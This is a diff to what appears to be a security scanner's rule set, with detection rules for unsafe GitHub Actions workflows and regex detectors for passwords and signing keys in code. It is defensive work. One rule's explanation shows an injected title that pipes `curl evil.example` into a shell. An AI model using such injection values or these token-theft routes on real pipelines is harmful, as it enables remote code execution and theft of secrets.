+    "actionlint-expression",
+    "KICS-run-block-injection",
+    "CICD-SEC-4"
+   ],
+   "message": "`{value}` is pasted into the script; whoever writes it runs commands here.",
+   "why": "GitHub puts the value of an expression into the script before the shell sees it. A title such as `\"; curl evil.example | sh; \"` becomes a command, with the workflow's token and secrets.",
+   "fix": "Hand the value over in `env:` and use the variable, quoted: `env: { TITLE: ${{ … }} }` and `\"$TITLE\"`.",
+   "references": [
+    "https://securitylab.github.com/resources/github-actions-untrusted-input/",
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "each": "expressions[*]",
+     "where": [
+      {
+       "check": "script-injection"
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "each": "expressions[*]",
+     "where": [
+      {
+       "path": "/action",
+       "is": "actions/github-script"
+      },
+      {
+       "check": "script-injection"
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "each": "expressions[*]",
+     "where": [
+      {
+       "check": "free-input"
+      }
+     ],
+     "severity": "medium",
+     "confidence": "medium",
+     "message": "`{value}` is pasted into the script; whoever starts or calls this runs commands here."
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "each": "expressions[*]",
+     "where": [
+      {
+       "path": "/action",
+       "is": "actions/github-script"
+      },
+      {
+       "check": "free-input"
+      }
+     ],
+     "severity": "medium",
+     "confidence": "medium"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-secret-for-all-steps",
+   "title": "Secret in reach of every step",
+   "category": "security",
+   "severity": "low",
+   "confidence": "medium",
+   "cwe": [
+    250,
+    522
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "workflow",
+    "secrets",
+    "GitHub-hardening",
+    "CICD-SEC-6"
+   ],
+   "message": "`{key}` puts a secret into the environment of every step of every job.",
+   "why": "An action that is taken over, a package's install script, a test: each reads its environment. The secret is needed by one of them.",
+   "fix": "Set it in the `env` of the one step that needs it.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "workflow"
+     ],
+     "each": "env{*}",
+     "where": [
+      {
+       "matches": "secrets\\.(?!GITHUB_TOKEN\\b)"
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-secret-in-script",
+   "title": "Secret pasted into a script",
+   "category": "security",
+   "severity": "low",
+   "confidence": "medium",
+   "cwe": [
+    522,
+    532
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "workflow",
+    "secrets",
+    "CKV_GHA_3",
+    "GitHub-hardening"
+   ],
+   "message": "`{value}` is pasted into the script, where other processes and error messages can show it.",
+   "why": "A command line is visible to every process of the machine, and a character in the secret may change what the shell does. Printed in another form, encoded or cut in two, it is no longer hidden in the log.",
+   "fix": "Hand it over in `env:` and use the variable.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "each": "commands[*]",
+     "where": [
+      {
+       "path": "name",
+       "is": [
+        "echo",
+        "printf",
+        "cat",
+        "Write-Host",
+        "Write-Output"
+       ]
+      },
+      {
+       "path": "args[*]",
+       "matches": "\\$\\{\\{\\s*secrets\\."
+      },
+      {
+       "not": {
+        "path": "pipedTo[*]",
+        "present": true
+       }
+      },
+      {
+       "path": "/run",
+       "matches": "^[^>]*$"
+      }
+     ],
+     "severity": "medium",
+     "message": "A secret is printed into the log."
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "each": "expressions[*]",
+     "where": [
+      {
+       "matches": "^secrets\\.(?!GITHUB_TOKEN\\b)"
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-secrets-inherit",
+   "title": "All secrets handed on",
+   "category": "security",
+   "severity": "low",
+   "confidence": "high",
+   "cwe": [
+    250,
+    522
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "workflow",
+    "secrets",
+    "zizmor-secrets-inherit"
+   ],
+   "message": "`{name}` hands every secret to the workflow that it calls.",
+   "why": "The called workflow, and each action in it, gets secrets that it has no use for. Nobody can tell from here which ones it reads.",
+   "fix": "Hand over the secrets that it needs by name.",
+   "references": [
+    "https://docs.github.com/en/actions/how-tos/reuse-automations/reuse-workflows"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "reusable-job"
+     ],
+     "where": [
+      {
+       "path": "secrets",
+       "is": "inherit"
+      },
+      {
+       "path": "uses",
+       "matches": "^(?!\\./)"
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "reusable-job"
+     ],
+     "where": [
+      {
+       "path": "secrets",
+       "is": "inherit"
+      },
+      {
+       "path": "uses",
+       "matches": "^\\./"
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-self-hosted-runner",
+   "title": "Strangers on your own machine",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "medium",
+   "cwe": [
+    250,
+    829
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "workflow",
+    "runner",
+    "zizmor-self-hosted-runner",
+    "CICD-SEC-7"
+   ],
+   "message": "`{name}` runs pull requests on a machine of yours.",
+   "why": "Whoever opens a pull request to a public repository runs code on the runner, which is not thrown away afterwards: he can stay on it, reach your network, and change later builds.",
+   "fix": "Use GitHub's runners for pull requests, or runners that live for one job.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#hardening-for-self-hosted-runners"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "job"
+     ],
+     "where": [
+      {
+       "path": [
+        "runs-on.labels[*]",
+        "runs-on[*]"
+       ],
+       "is": "self-hosted"
+      },
+      {
+       "path": "^triggers{~^pull_request(?:_target)?$}",
+       "present": true
+      }
+     ],
+     "at": "runs-on"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-spoofable-bot",
+   "title": "Bot known by its name alone",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "medium",
+   "cwe": [
+    290,
+    807
+   ],
+   "owasp": [
+    "A07:2021"
+   ],
+   "tags": [
+    "workflow",
+    "zizmor-bot-conditions"
+   ],
+   "message": "`{value}` asks who started the run, not who wrote the change.",
+   "why": "`github.actor` is whoever caused the last event. A stranger can have the bot do that on his own pull request (`@dependabot recreate`), and passes for it.",
+   "fix": "Ask for the author: `github.event.pull_request.user.login == 'dependabot[bot]'`.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "job"
+     ],
+     "where": [
+      {
+       "path": "if",
+       "matches": "github\\.(?:triggering_)?actor *== *['\"][\\w-]{1,60}\\[bot\\]"
+      },
+      {
+       "path": "^triggers{~^pull_request(?:_target)?$|^workflow_run$|^issue_comment$}",
+       "present": true
+      }
+     ],
+     "at": "if"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "step"
+     ],
+     "where": [
+      {
+       "path": "if",
+       "matches": "github\\.(?:triggering_)?actor *== *['\"][\\w-]{1,60}\\[bot\\]"
+      },
+      {
+       "path": "^^triggers{~^pull_request(?:_target)?$|^workflow_run$|^issue_comment$}",
+       "present": true
+      }
+     ],
+     "at": "if"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-token-kept",
+   "title": "Token left in the checkout",
+   "category": "security",
+   "severity": "low",
+   "confidence": "low",
+   "cwe": [
+    522
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "workflow",
+    "secrets",
+    "zizmor-artipacked"
+   ],
+   "message": "The checkout leaves the job's token in `.git/config`, for every later step.",
+   "why": "Every step after it can read the token there, and an uploaded folder takes it along.",
+   "fix": "Set `persist-credentials: false` unless the job pushes.",
+   "references": [
+    "https://github.com/actions/checkout#usage"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "is": "actions/checkout"
+      },
+      {
+       "path": "with.persist-credentials",
+       "default": true,
+       "is": true
+      },
+      {
+       "check": "uploads-workspace"
+      }
+     ],
+     "severity": "medium",
+     "confidence": "high",
+     "at": "uses",
+     "message": "The token that the checkout leaves in `.git/config` is uploaded with the folder.",
+     "fix": {
+      "title": "Leave no token",
+      "set": "with.persist-credentials",
+      "to": "false"
+     }
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "is": "actions/checkout"
+      },
+      {
+       "path": "with.persist-credentials",
+       "default": true,
+       "is": true
+      }
+     ],
+     "at": "uses",
+     "fix": {
+      "title": "Leave no token",
+      "set": "with.persist-credentials",
+      "to": "false"
+     }
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-unpinned-action",
+   "title": "Action not pinned to a commit",
+   "category": "security",
+   "severity": "low",
+   "confidence": "high",
+   "cwe": [
+    829,
+    1357
+   ],
+   "owasp": [
+    "A08:2021"
+   ],
+   "tags": [
+    "workflow",
+    "supply-chain",
+    "zizmor-unpinned-uses",
+    "KICS-unpinned-actions",
+    "Scorecard-pinned-dependencies",
+    "CICD-SEC-3"
+   ],
+   "message": "`{value}` names a tag or branch, which its owner, or a thief of the account, can move.",
+   "why": "The step runs with the job's token and secrets. A tag that is moved to other code reaches every workflow that uses it at its next run, as happened to `tj-actions/changed-files`.",
+   "fix": "Pin to the full commit hash, with the version behind it as a comment; a bot keeps it up to date.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "ref",
+       "matches": "^(?:main|master|develop|dev|trunk|latest|next|edge|HEAD)$"
+      }
+     ],
+     "severity": "medium",
+     "at": "uses",
+     "message": "`{value}` follows a branch: each push to it runs here at once."
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "present": true
+      },
+      {
+       "path": "ref",
+       "absent": true
+      }
+     ],
+     "severity": "medium",
+     "at": "uses"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "ref",
+       "matches": "^(?![0-9a-f]{40}$|[0-9a-f]{64}$)"
+      },
+      {
+       "not": {
+        "path": "owner",
+        "is": [
+         "actions",
+         "github"
+        ]
+       }
+      }
+     ],
+     "at": "uses"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "uses",
+       "matches": "^docker://[^@]+$"
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "reusable-job"
+     ],
+     "where": [
+      {
+       "path": "uses",
+       "matches": "^(?!\\./)[^@]+@(?![0-9a-f]{40}$)"
+      }
+     ],
+     "at": "uses"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-unsecure-commands",
+   "title": "Commands from the log allowed",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "high",
+   "cwe": [
+    74,
+    94
+   ],
+   "owasp": [
+    "A03:2021"
+   ],
+   "tags": [
+    "workflow",
+    "injection",
+    "CKV_GHA_1",
+    "zizmor-insecure-commands",
+    "KICS-unsecured-commands"
+   ],
+   "message": "Whatever a step prints may set variables and the path for the steps after it.",
+   "why": "`set-env` and `add-path` were switched off since any text in the log, a commit message for instance, could set `LD_PRELOAD` or `PATH` and so run code.",
+   "fix": "Write to the files `$GITHUB_ENV`, `$GITHUB_PATH` and `$GITHUB_OUTPUT`.",
+   "references": [
+    "https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "workflow",
+      "job",
+      "step"
+     ],
+     "each": "env.ACTIONS_ALLOW_UNSECURE_COMMANDS",
+     "where": [
+      {
+       "is": true
+      }
+     ],
+     "fix": {
+      "title": "Do not allow them",
+      "replace": ".",
+      "to": "false"
+     }
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "where": [
+      {
+       "path": "run",
+       "matches": "::(?:set-env|add-path)[ :]"
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "where": [
+      {
+       "path": "run",
+       "matches": "::(?:set-output|save-state)[ :]"
+      }
+     ],
+     "severity": "low",
+     "message": "The command that this step prints is deprecated: any text in the log could give it."
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-unsound-condition",
+   "title": "Condition that lets too much through",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "medium",
+   "cwe": [
+    571,
+    697
+   ],
+   "owasp": [],
+   "tags": [
+    "workflow",
+    "zizmor-unsound-contains",
+    "zizmor-unsound-condition",
+    "actionlint-if-cond"
+   ],
+   "message": "This condition is true more often than it looks.",
+   "why": "`contains('main develop', github.ref_name)` also holds for a branch called `a`; and text round `${{ … }}`, a line break even, makes a condition that is always true.",
+   "fix": "Compare with `==`, or `contains(fromJSON('[\"main\", \"develop\"]'), …)`; write the whole condition as one expression.",
+   "references": [
+    "https://docs.github.com/en/actions/reference/workflows-and-actions/expressions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "job",
+      "step"
+     ],
+     "where": [
+      {
+       "path": "if",
+       "matches": "contains\\( *['\"][^'\"]{1,200}['\"] *, *github\\."
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "job",
+      "step"
+     ],
+     "each": "if",
+     "where": [
+      {
+       "check": "always-true"
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-untrusted-checkout",
+   "title": "Code of strangers with your rights",
+   "category": "security",
+   "severity": "high",
+   "confidence": "high",
+   "cwe": [
+    829,
+    94
+   ],
+   "owasp": [
+    "A08:2021"
+   ],
+   "tags": [
+    "workflow",
+    "zizmor-dangerous-triggers",
+    "CodeQL-untrusted-checkout",
+    "CICD-SEC-4"
+   ],
+   "message": "Code of a pull request is checked out in a workflow that has your secrets and a token that may write.",
+   "why": "`pull_request_target`, `workflow_run` and `issue_comment` run in the name of your repository. What the pull request brings, a build script, a test, a package's install hook, runs with those rights.",
+   "fix": "Use `pull_request`; or part the work in two: an unprivileged workflow that builds, and one that only reads its results.",
+   "references": [
+    "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "is": "actions/checkout"
+      },
+      {
+       "path": "with.ref",
+       "source": "pull_request\\.(?:head|merge_commit_sha)|github\\.head_ref|workflow_run\\.(?:head_|pull_requests)|refs/pull/|event\\.(?:number|issue\\.number|pull_request\\.number)"
+      },
+      {
+       "path": "^^triggers{~^(?:pull_request_target|workflow_run|issue_comment)$}",
+       "present": true
+      }
+     ],
+     "at": "with.ref"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "is": "actions/checkout"
+      },
+      {
+       "path": "with.repository",
+       "source": "pull_request\\.head\\.repo|workflow_run\\.head_repository"
+      },
+      {
+       "not": {
+        "path": "with.ref",
+        "source": "pull_request\\.(?:head|merge_commit_sha)|github\\.head_ref|workflow_run\\.head_"
+       }
+      },
+      {
+       "path": "^^triggers{~^(?:pull_request_target|workflow_run|issue_comment)$}",
+       "present": true
+      }
+     ],
+     "at": "with.repository"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "where": [
+      {
+       "path": "commands[*]",
+       "where": [
+        {
+         "any": [
+          {
+           "path": "text",
+           "matches": "^(?:gh|hub) pr checkout"
+          },
+          {
+           "all": [
+            {
+             "path": "name",
+             "is": "git"
+            },
+            {
+             "path": "subcommand",
+             "is": [
+              "checkout",
+              "fetch",
+              "pull",
+              "switch",
+              "clone"
+             ]
+            },
+            {
+             "path": "text",
+             "matches": "github\\.event\\.pull_request\\.head|github\\.head_ref|pull/\\$|refs/pull/"
+            }
+           ]
+          }
+         ]
+        }
+       ]
+      },
+      {
+       "path": "^^triggers{~^(?:pull_request_target|workflow_run|issue_comment)$}",
+       "present": true
+      }
+     ],
+     "at": "run"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-write-all",
+   "title": "Token that may write everything",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "high",
+   "cwe": [
+    250,
+    732
+   ],
+   "owasp": [
+    "A01:2021"
+   ],
+   "tags": [
+    "workflow",
+    "permissions",
+    "CKV2_GHA_1",
+    "zizmor-excessive-permissions",
+    "Scorecard-token-permissions",
+    "CICD-SEC-5"
+   ],
+   "message": "`{name}` gives its token every right in the repository.",
+   "why": "Every step, every action and every package that a build installs can use the token. With all rights it can push code, publish packages and change releases.",
+   "fix": "List the rights that are needed, `contents: read` first.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication",
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "workflow",
+      "job"
+     ],
+     "where": [
+      {
+       "path": "permissions",
+       "is": "write-all"
+      }
+     ],
+     "fix": {
+      "title": "Read the code alone",
+      "replace": "permissions",
+      "to": "{ contents: read }"
      }
     }
    ],
@@ -50438,7 +53210,7 @@ export const ruleSet: RuleSet = {
    "reference": "https://cwe.mitre.org/data/definitions/214.html",
    "id": "call-password",
    "title": "Password in a call",
-   "pattern": "(?:(?:basic)?auth|HTTPBasicAuth|HTTPDigestAuth|NetworkCredential|UsernamePasswordCredentials|PasswordAuthentication|BasicAuth|basic_auth|\\.login)[ \\t]{0,2}=?[ \\t]{0,2}[(\\[][ \\t]{0,4}[\"'][^\"'\\n]{1,80}[\"'][ \\t]{0,4},[ \\t]{0,4}[\"'](?<secret>[^\"'\\n]{4,100})[\"']",
+   "pattern": "(?:(?:basic)?auth|HTTPBasicAuth|HTTPDigestAuth|NetworkCredential|UsernamePasswordCredentials|PasswordAuthentication|BasicAuth|basic_auth|\\.login)[ \\t]{0,2}=?[ \\t]{0,2}(?:[(\\[]|[ \\t])[ \\t]{0,4}[\"'][^\"'\\n]{1,80}[\"'][ \\t]{0,4},[ \\t]{0,4}[\"'](?<secret>[^\"'\\n]{4,100})[\"']",
    "keywords": [
     "auth",
     "networkcredential",
@@ -50447,6 +53219,39 @@ export const ruleSet: RuleSet = {
     ".login"
    ],
    "ignoreCase": true
+  },
+  {
+   "severity": "high",
+   "confidence": "high",
+   "kind": "password",
+   "entropy": 1.5,
+   "provider": "Credentials in a command",
+   "revoke": "Change the password, and let the command ask for it, or read it from a file that only its user can read.",
+   "reference": "https://cwe.mitre.org/data/definitions/214.html",
+   "id": "curl-option-password",
+   "title": "Password in a curl option",
+   "pattern": "CURLOPT_(?:PROXY)?USERPWD[ \\t]{0,4}(?:,|=>)[ \\t]{0,4}[\"'][^\"':\\n]{1,60}:(?<secret>[^\"'\\n]{3,100})[\"']",
+   "keywords": [
+    "curlopt_userpwd",
+    "curlopt_proxyuserpwd"
+   ]
+  },
+  {
+   "severity": "high",
+   "confidence": "high",
+   "kind": "random",
+   "entropy": 2.5,
+   "provider": "Credentials in a command",
+   "revoke": "Change the password, and let the command ask for it, or read it from a file that only its user can read.",
+   "reference": "https://cwe.mitre.org/data/definitions/214.html",
+   "id": "hmac-key",
+   "title": "Key of a signature in a call",
+   "pattern": "(?:createHmac\\([^,\\n]{1,40},[ \\t]{0,4}|hmac\\.new\\([ \\t]{0,4}b?|Fernet\\([ \\t]{0,4}b?)[\"'](?<secret>[^\"'\\n]{8,200})[\"']",
+   "keywords": [
+    "createhmac",
+    "hmac.new",
+    "fernet"
+   ]
   },
   {
    "severity": "high",
